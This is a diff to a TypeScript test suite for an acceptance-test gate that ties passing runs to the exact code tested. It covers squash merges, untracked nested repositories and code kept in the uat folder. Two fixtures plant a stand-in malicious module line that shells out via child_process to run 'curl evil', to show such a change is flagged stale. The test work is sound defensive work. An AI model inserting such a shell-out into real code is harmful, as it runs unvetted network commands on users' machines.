@@ -1753,12 +1753,14 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
     tree: git(dir, 'rev-parse', `${ref}^{tree}`).trim(),
     outside: outsideOf(dir, ref),
   });
-  /** The tree of `ref` without the uat folder, made by git in an index of the test's own. */
+  /** The tree of `ref` without the uat folder's records, made by git in an index of the test's own. */
   const outsideOf = (dir: string, ref: string) => {
     const env = { ...process.env, GIT_INDEX_FILE: join(mkdtempSync(join(tmpdir(), 'proofgate-index-')), 'index') };
     const run = (...args: string[]) => execFileSync('git', args, { cwd: dir, env, encoding: 'utf8' }).trim();
     run('read-tree', ref);
-    run('rm', '-r', '-q', '-f', '--cached', '--', UAT);
+    // The uat folder's records (specs, pages, runs, triage) only: any other file there is code.
+    const records = ['specs/*.json', 'pages/*.html', 'results/*/*.json', 'triage/*.json'].map((p) => `:(glob,top)${UAT}/${p}`);
+    run('rm', '-r', '-q', '-f', '--cached', '--ignore-unmatch', '--', ...records);
     return run('write-tree');
   };
   /** The code a built or served page carries into its runs. */
@@ -1910,18 +1912,18 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
     expect(bad.outputs).toMatchObject({ verdict: 'stale' });
   });
 
-  it('#375 a repository of its own with no commit yet, left untracked in the checkout: its files are code no tree records, so no page is built or served for it (inside the uat folder it is no code); its first commit is code that runs, and its files edited or added since are refused, as in a submodule', async () => {
+  it('#375 a repository of its own with no commit yet, left untracked in the checkout: its files are code no tree records, so no page is built or served for it (in the uat folder too); its first commit is code that runs, and its files edited or added since are refused, as in a submodule', async () => {
     const { dir } = played();
     const page = () => pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'));
     const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com'];
-    // Inside the uat folder: no code (the folder is HEAD's); git add -A refused it and stopped the build with git's words.
+    // Inside the uat folder too (#403): only its records are no code, and a repository is none.
     const notes = join(dir, UAT, 'notes');
     mkdirSync(notes, { recursive: true });
     git(notes, 'init', '-q');
     writeFileSync(join(notes, 'n.md'), 'a note\n');
     const inside = await cliCase(dir, ['uat', 'build', ID]);
-    expect([inside.code, inside.stderr]).toEqual([0, '']);
-    expect(page()).toEqual(codeOf(dir));
+    expect(inside.code).toBe(3);
+    expect(inside.stdout + inside.stderr).toContain(`"${UAT}/notes": a repository of its own with no commit yet`);
     rmSync(notes, { recursive: true });
     // Outside it: a plugin folder the app may load, recorded by no tree; a run of it would pass for HEAD's code.
     const lib = join(dir, 'tools/lib');
@@ -1935,7 +1937,7 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
     git(lib, ...identity, 'commit', '-q', '-m', 'first');
     const again = await cliCase(dir, ['uat', 'build', ID]);
     expect(again.code).toBe(0);
-    expect(again.stdout).toContain('uncommitted changes to 1 file(s) outside the uat folder ("tools/lib")');
+    expect(again.stdout).toContain('uncommitted changes to 1 file(s) of code ("tools/lib")');
     expect(page()?.tree).not.toBe(codeOf(dir).tree);
     // A gitlink records the commit checked out, never the files: one edited since, or a file untracked in it, is refused.
     const refusedFor = async (what: string) => {
@@ -1962,60 +1964,85 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
     expect([clean.code, page()]).toEqual([0, codeOf(dir)]);
   });
 
-  it('#346 a pull request squash-merged after its run, its branch deleted: on the push the run is of the code merged; a change after the run, or on the base since, is not', async () => {
-    for (const after of ['nothing', 'the code after the run', 'the base since'] as const) {
-      const dir = emptyRepo('proofgate-uat-squash-');
-      writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
-      mkdirSync(join(dir, 'src'));
-      writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a + b;\n');
-      writeSpec(dir, EXAMPLE);
-      commitAll(dir, 'the base');
-      const main = git(dir, 'rev-parse', '--abbrev-ref', 'HEAD').trim();
-      git(dir, 'checkout', '-q', '-b', 'feature');
-      writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a - b;\n');
-      commitAll(dir, 'the change');
-      // The page built at the pull request's head: the code its run records.
-      expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
-      const code = pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'));
-      expect(code).toEqual(codeOf(dir));
-      writeJson(runFile(dir), bound(code));
-      writeJson(triageFile(dir), triage([]));
-      if (after === 'the code after the run') writeFileSync(join(dir, 'src/app.ts'), 'export const total = () => 0;\n');
-      commitAll(dir, 'acceptance run and triage');
-      git(dir, 'checkout', '-q', main);
-      if (after === 'the base since') {
-        writeFileSync(join(dir, 'src/other.ts'), 'export const other = 1;\n');
-        commitAll(dir, 'merged first');
-      }
-      git(dir, 'merge', '-q', '--squash', 'feature');
-      git(dir, 'commit', '-q', '-m', 'the pull request, squashed');
-      git(dir, 'branch', '-q', '-D', 'feature');
-      git(dir, 'reflog', 'expire', '--expire=now', '--all');
-      git(dir, 'gc', '-q', '--prune=now');
-      expect(() => git(dir, 'cat-file', '-e', code!.commit)).toThrow();
-      const r = await cliCase(dir, ['uat', 'gate', ID]);
-      const event = { after: head(dir), before: git(dir, 'rev-parse', 'HEAD~1').trim(), ref: `refs/heads/${main}` };
-      const a = await actionCase(
-        'uat-gate.js',
-        dir,
-        { id: ID, mode: 'gate' },
-        { event, env: { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'push' } },
-      );
-      if (after === 'nothing') {
-        expect([after, r.code, r.stdout.split('\n')[0]]).toEqual([after, 0, 'example-1.0.0: passed (run by Ana Test)']);
-        expect([after, a.outputs.verdict]).toEqual([after, 'passed']);
-      } else {
-        expect([after, r.code, reasons(r.stdout)[0]]).toEqual([
-          after,
-          3,
-          expect.stringContaining(
-            `which is not in this clone (check out with \`fetch-depth: 0\`), so it cannot be shown to be the code of ${head(dir).slice(0, 12)}: ${code!.commit} may be a commit rewritten away, and its code outside the uat folder is not ${head(dir).slice(0, 12)}'s`,
-          ),
-        ]);
-        expect([after, a.outputs.verdict]).toEqual([after, 'stale']);
-      }
-      expectNoCanary(sinks(a, [dir]));
+  type After = 'nothing' | 'the code after the run' | 'the base since' | 'code kept in the uat folder after the run';
+  /** A pull request squash-merged after its run, its branch deleted, `after` changed too: the gate and the action on the push. */
+  async function squashed(after: After) {
+    const dir = emptyRepo('proofgate-uat-squash-');
+    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
+    mkdirSync(join(dir, 'src'));
+    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a + b;\n');
+    writeSpec(dir, EXAMPLE);
+    commitAll(dir, 'the base');
+    const main = git(dir, 'rev-parse', '--abbrev-ref', 'HEAD').trim();
+    git(dir, 'checkout', '-q', '-b', 'feature');
+    writeFileSync(join(dir, 'src/app.ts'), 'export const total = (a: number, b: number) => a - b;\n');
+    commitAll(dir, 'the change');
+    // The page built at the pull request's head: the code its run records.
+    expect((await cliCase(dir, ['uat', 'build', ID])).code).toBe(0);
+    const code = pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'));
+    expect(code).toEqual(codeOf(dir));
+    writeJson(runFile(dir), bound(code));
+    writeJson(triageFile(dir), triage([]));
+    if (after === 'the code after the run') writeFileSync(join(dir, 'src/app.ts'), 'export const total = () => 0;\n');
+    if (after === 'code kept in the uat folder after the run') {
+      mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
+      writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
     }
+    commitAll(dir, 'acceptance run and triage');
+    git(dir, 'checkout', '-q', main);
+    if (after === 'the base since') {
+      writeFileSync(join(dir, 'src/other.ts'), 'export const other = 1;\n');
+      commitAll(dir, 'merged first');
+    }
+    git(dir, 'merge', '-q', '--squash', 'feature');
+    git(dir, 'commit', '-q', '-m', 'the pull request, squashed');
+    git(dir, 'branch', '-q', '-D', 'feature');
+    git(dir, 'reflog', 'expire', '--expire=now', '--all');
+    git(dir, 'gc', '-q', '--prune=now');
+    expect(() => git(dir, 'cat-file', '-e', code!.commit)).toThrow();
+    const r = await cliCase(dir, ['uat', 'gate', ID]);
+    const event = { after: head(dir), before: git(dir, 'rev-parse', 'HEAD~1').trim(), ref: `refs/heads/${main}` };
+    const a = await actionCase(
+      'uat-gate.js',
+      dir,
+      { id: ID, mode: 'gate' },
+      { event, env: { ...ENV_CANARIES, GITHUB_EVENT_NAME: 'push' } },
+    );
+    expectNoCanary(sinks(a, [dir]));
+    return { dir, r, a, code: code! };
+  }
+  /** A squashed run that must be stale: the reason says the code merged is not the code it tested. */
+  async function expectStale(after: After) {
+    const { dir, r, a, code } = await squashed(after);
+    expect([after, r.code, reasons(r.stdout)[0]]).toEqual([
+      after,
+      3,
+      expect.stringContaining(
+        `which is not in this clone (check out with \`fetch-depth: 0\`), so it cannot be shown to be the code of ${head(dir).slice(0, 12)}: ${code.commit} may be a commit rewritten away, and its code (but the uat folder's records) is not ${head(dir).slice(0, 12)}'s`,
+      ),
+    ]);
+    expect([after, a.outputs.verdict]).toEqual([after, 'stale']);
+  }
+
+  it('#346 a pull request squash-merged after its run, its branch deleted: on the push the run is of the code merged; a change after the run, or on the base since, is not', async () => {
+    const { r, a } = await squashed('nothing');
+    expect([r.code, r.stdout.split('\n')[0]]).toEqual([0, 'example-1.0.0: passed (run by Ana Test)']);
+    expect(a.outputs.verdict).toBe('passed');
+    await expectStale('the code after the run');
+    await expectStale('the base since');
+  });
+
+  it('#403 code kept in the uat folder (a module the app loads): changed after the run, then squash-merged, stale; edited and not committed, a page built or served records a tree no commit has', async () => {
+    await expectStale('code kept in the uat folder after the run');
+    const { dir } = played();
+    mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
+    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => 'booking confirmed';\n");
+    commitAll(dir, 'the app loads a module kept in the uat folder');
+    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
+    const built = await cliCase(dir, ['uat', 'build', ID]);
+    expect(built.code).toBe(0);
+    expect(built.stdout).toContain(`uncommitted changes to 1 file(s) of code ("${UAT}/lib/impl.js")`);
+    expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
   });
 
   it('#323 uat serve and uat build on a checkout with uncommitted changes (unstaged, staged, untracked): the run records the tree that ran, never passes as HEAD, and an edit mid-run is refused', async () => {
